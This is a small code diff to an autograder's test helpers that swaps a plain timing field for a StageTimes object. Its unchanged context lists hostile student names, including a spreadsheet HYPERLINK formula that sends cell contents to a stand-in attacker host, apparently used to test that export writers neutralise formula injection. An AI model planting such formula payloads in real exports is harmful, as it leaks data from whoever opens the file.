@@ -4,7 +4,7 @@ The writers (gradebook, JUnit, Markdown, Gradescope, PrairieLearn, LMS files) ar
 functions of these rows, so most of their tests need no kernel.
 """
 
-from grader.model import CheckResult, ExerciseResult, GradeError, SubmissionResult
+from grader.model import CheckResult, ExerciseResult, GradeError, StageTimes, SubmissionResult
 
 HOSTILE_NAMES = [
     '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
@@ -39,7 +39,7 @@ def submission_row(name: str, errors: list[GradeError] = (), statuses=("passed",
                  ExerciseResult("ex2", "Exercise 2", sum(c.score for c in ex2), 1.0, ex2, [], [])]
     result = SubmissionResult(submission=name, assignment="attention_pooling",
                               score=sum(e.score for e in exercises), max_score=6.0, exercises=exercises,
-                              errors=list(errors), seed_kind="secret", sandboxed=True, seconds=seconds,
+                              errors=list(errors), seed_kind="secret", sandboxed=True, timing=StageTimes(seconds=seconds),
                               source=source or f"/class/{name}.ipynb")
     return result.to_json()
 
